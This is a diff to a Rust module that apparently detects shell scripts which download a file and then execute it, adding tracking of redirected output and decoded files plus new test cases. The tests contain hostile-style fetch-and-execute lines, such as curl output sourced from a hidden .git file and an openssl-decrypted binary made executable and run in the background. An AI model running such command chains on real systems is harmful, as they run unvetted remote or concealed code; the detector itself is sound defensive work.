@@ -1,6 +1,8 @@
 //! What the lines of a script do together: one fetches a file, another makes it a program, a third runs it.
 
-use super::{DECODERS, FETCHERS, INDICES, INTERPRETERS, command, last, statements, written};
+use super::{
+    DECODERS, FETCHERS, INDICES, INTERPRETERS, command, last, redirected, run_by, statements, written,
+};
 
 /// Hosts whose programs scripts of models install, line by line.
 const INSTALLERS: [&str; 6] = [
@@ -12,7 +14,7 @@ const INSTALLERS: [&str; 6] = [
     "https://download.pytorch.org/",
 ];
 /// Where people keep what others clone and install.
-const FORGES: [&str; 8] = [
+pub(crate) const FORGES: [&str; 8] = [
     "https://github.com/",
     "http://github.com/",
     "git@github.com:",
@@ -28,6 +30,9 @@ pub(crate) fn runs_fetched<'l>(lines: impl Iterator<Item = &'l str>) -> Option<(
     let mut fetched: Vec<&str> = Vec::new();
     let mut stranger = false;
     for (index, line) in lines.enumerate() {
+        if !INDICES.iter().chain(&INSTALLERS).any(|host| line.contains(host)) {
+            fetched.extend(redirected(line));
+        }
         for stages in statements(line) {
             let decodes =
                 stages.iter().any(|s| command(s).is_some_and(|(name, _)| DECODERS.contains(&name.as_str())));
@@ -36,10 +41,11 @@ pub(crate) fn runs_fetched<'l>(lines: impl Iterator<Item = &'l str>) -> Option<(
                 let first = words.first().copied().unwrap_or_default();
                 let by_path = first.starts_with("./") || first.starts_with('/') || first.starts_with("~/");
                 let interpreted = INTERPRETERS.contains(&name.as_str()) && name != "chmod";
-                let named = words.iter().skip(1).find(|w| interpreted && fetched.contains(&last(w)));
-                let run = if by_path && fetched.contains(&last(first)) { Some(&first) } else { named };
+                let named =
+                    run_by(&name, &words).into_iter().find(|w| interpreted && fetched.contains(&last(w)));
+                let run = if by_path && fetched.contains(&last(first)) { Some(first) } else { named };
                 if let Some(run) = run {
-                    return Some((index, (*run).to_owned()));
+                    return Some((index, run.to_owned()));
                 }
                 if stranger && installs(&name, &words) {
                     return Some((index, "what was cloned from a stranger's server".to_owned()));
@@ -59,6 +65,9 @@ pub(crate) fn runs_fetched<'l>(lines: impl Iterator<Item = &'l str>) -> Option<(
                 if name == "git" && words.get(1) == Some(&"clone") {
                     let address = words.iter().find(|w| w.contains("://") || w.contains('@'));
                     stranger |= address.is_some_and(|a| !FORGES.iter().any(|forge| a.starts_with(forge)));
+                }
+                if DECODERS.contains(&name.as_str()) {
+                    fetched.extend(written(&words));
                 }
                 if decodes && let Some((_, target)) = stage.rsplit_once('>') {
                     fetched.extend(target.split_whitespace().next().map(last));
@@ -100,6 +109,9 @@ mod tests {
             "git clone http://example.org/x.git && cd x && make install",
             "wget https://raw.githubusercontent.com/a/b/main/i.sh\nsh i.sh",
             "curl -O https://example.org/tool\nmv tool run\n./run",
+            "curl -s \"https://example.org/$u\" > .git/x && . .git/x",
+            "curl -s https://example.org/x > .git/x\n. .git/x",
+            "openssl enc -d -k a -in t.bin -out /tmp/t\nchmod +x /tmp/t\n/tmp/t &",
         ] {
             assert!(runs_fetched(script.lines()).is_some(), "{script}");
         }
@@ -107,6 +119,7 @@ mod tests {
             "wget https://example.org/data.zip\nunzip data.zip\npython train.py",
             "git clone https://github.com/a/b\ncd b\npip install -e .",
             "wget https://repo.anaconda.com/miniconda/m.sh\nbash m.sh -b",
+            "curl -s https://example.org/d > data.json\npython train.py data.json",
             "bash setup.sh\ncurl -O https://example.org/model.bin\npython -c 'print(1)'",
         ] {
             assert_eq!(runs_fetched(script.lines()), None, "{script}");
